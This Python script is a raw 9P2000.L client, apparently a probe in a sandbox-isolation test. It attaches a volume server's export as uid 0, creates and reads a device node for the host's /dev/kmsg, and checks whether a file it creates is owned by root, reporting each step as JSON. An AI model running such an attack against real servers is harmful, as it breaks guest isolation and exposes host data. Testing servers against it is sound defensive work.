"""A raw 9P2000.L client that attacks a volume server: copied into a guest and run there.

`python3 ninep_attack.py ADDRESS PORT EXPORT` attaches EXPORT claiming uid 0, makes a
character device 1:11 (the host's /dev/kmsg) with Tmknod, opens it with Tlopen and reads it;
then makes a regular file and reads back its owner. It prints one JSON object: each step's
answer (`ok` with what came back, or the Linux errno of Rlerror). Standard library only: the
guest's python3 runs it.
"""

from __future__ import annotations

import json
import socket
import struct
import sys

RLERROR = 7
TLOPEN, TMKNOD, TLCREATE, TGETATTR = 12, 18, 14, 24
TVERSION, TATTACH, TWALK, TREAD, TREMOVE = 100, 104, 110, 116, 122
NOFID = 0xFFFFFFFF
S_IFCHR = 0o020000
GETATTR_BASIC = 0x7FF


class NinePError(Exception):
    def __init__(self, errno: int):
        super().__init__(errno)
        self.errno = errno


def string(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<H", len(raw)) + raw


class Client:
    def __init__(self, address: str, port: int):
        self.sock = socket.create_connection((address, port), timeout=10)
        self.tag = 0

    def _recv(self, count: int) -> bytes:
        data = b""
        while len(data) < count:
            chunk = self.sock.recv(count - len(data))
            if not chunk:
                raise ConnectionError("the server closed the connection")
            data += chunk
        return data

    def call(self, kind: int, body: bytes) -> bytes:
        self.tag = (self.tag + 1) % 0xFFFF
        tag = 0xFFFF if kind == TVERSION else self.tag
        self.sock.sendall(struct.pack("<IBH", 7 + len(body), kind, tag) + body)
        size, answer, _ = struct.unpack("<IBH", self._recv(7))
        payload = self._recv(size - 7)
        if answer == RLERROR:
            raise NinePError(struct.unpack("<I", payload[:4])[0])
        if answer != kind + 1:
            raise ConnectionError(f"answer {answer} to message {kind}")
        return payload

    def version(self) -> None:
        self.call(TVERSION, struct.pack("<I", 65536) + string("9P2000.L"))

    def attach(self, fid: int, export: str, uid: int) -> None:
        self.call(
            TATTACH, struct.pack("<II", fid, NOFID) + string("root") + string(export) + struct.pack("<I", uid)
        )

    def walk(self, fid: int, newfid: int, *names: str) -> None:
        self.call(TWALK, struct.pack("<IIH", fid, newfid, len(names)) + b"".join(string(n) for n in names))

    def mknod(self, dfid: int, name: str, mode: int, major: int, minor: int) -> None:
        self.call(
            TMKNOD, struct.pack("<I", dfid) + string(name) + struct.pack("<IIII", mode, major, minor, 0)
        )

    def lopen(self, fid: int, flags: int) -> None:
        self.call(TLOPEN, struct.pack("<II", fid, flags))

    def lcreate(self, fid: int, name: str) -> None:
        self.call(TLCREATE, struct.pack("<I", fid) + string(name) + struct.pack("<III", 0o101, 0o644, 0))

    def read(self, fid: int, count: int) -> bytes:
        payload = self.call(TREAD, struct.pack("<IQI", fid, 0, count))
        return payload[4 : 4 + struct.unpack("<I", payload[:4])[0]]

    def owner(self, fid: int) -> tuple[int, int]:
        payload = self.call(TGETATTR, struct.pack("<IQ", fid, GETATTR_BASIC))
        return struct.unpack("<II", payload[8 + 13 + 4 : 8 + 13 + 12])

    def remove(self, fid: int) -> None:
        self.call(TREMOVE, struct.pack("<I", fid))


def step(results: dict[str, object], name: str, action) -> bool:
    try:
        value = action()
    except NinePError as exc:
        results[name] = {"errno": exc.errno}
        return False
    results[name] = {"ok": value.decode(errors="replace") if isinstance(value, bytes) else value}
    return True


def attack(address: str, port: int, export: str) -> dict[str, object]:
    client, results = Client(address, port), {}
    client.version()
    step(results, "attach", lambda: client.attach(1, export, 0))
    step(results, "mknod", lambda: client.mknod(1, "kmsg", S_IFCHR | 0o666, 1, 11))
    if step(results, "walk", lambda: client.walk(1, 2, "kmsg")):
        if step(results, "lopen", lambda: client.lopen(2, 0)):
            step(results, "read", lambda: client.read(2, 4096))
        step(results, "remove", lambda: client.remove(2))
    client.walk(1, 3)
    if step(results, "create", lambda: client.lcreate(3, "as-root.txt")):
        step(results, "owner", lambda: list(client.owner(3)))
        client.remove(3)
    return results


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[1], int(sys.argv[2]), sys.argv[3])))
